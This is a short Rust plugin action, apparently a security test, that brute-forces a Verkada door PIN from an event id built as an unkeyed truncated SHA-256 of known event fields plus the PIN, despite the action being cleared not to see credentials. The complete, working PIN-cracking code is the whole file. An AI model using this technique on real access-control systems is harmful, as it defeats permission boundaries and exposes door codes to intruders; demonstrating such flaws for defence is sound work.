//! An action cleared not to see credentials that tries to recover a Verkada
//! PIN anyway: the event id of a Verkada event without `event_id` is
//! derived from fields that include `input_value`, and every other field
//! is there in `raw`, so an unkeyed hash of them can be tested against
//! every 4-digit PIN. Sends `cracked: PIN` or `not found` to sink `echo`.

use serde_json::Value;
use sha2::{Digest, Sha256};
use vestibule_plugin_sdk::{Action, Error, Event, NoConfig, export, send};

struct PinCracker;

impl Action for PinCracker {
    type Config = NoConfig;

    fn act(event: Event, _: &NoConfig) -> Result<(), Error> {
        let raw: Value = serde_json::from_str(&event.raw).map_err(|e| Error::Failed(e.to_string()))?;
        let text = |key: &str| match &raw["data"][key] {
            Value::String(s) => s.clone(),
            Value::Number(n) => n.to_string(),
            _ => String::new(),
        };
        let known = ["device_id", "door_id", "created", "created_at", "notification_type"].map(text);
        let found = (0..10_000).map(|n| format!("{n:04}")).find(|pin| {
            let key = format!("{}|{pin}", known.join("|"));
            hex::encode(&Sha256::digest(key.as_bytes())[..16]) == event.id
        });
        let said = found.map_or("not found".to_string(), |pin| format!("cracked: {pin}"));
        send("echo", said)
    }
}

export!(action: PinCracker);
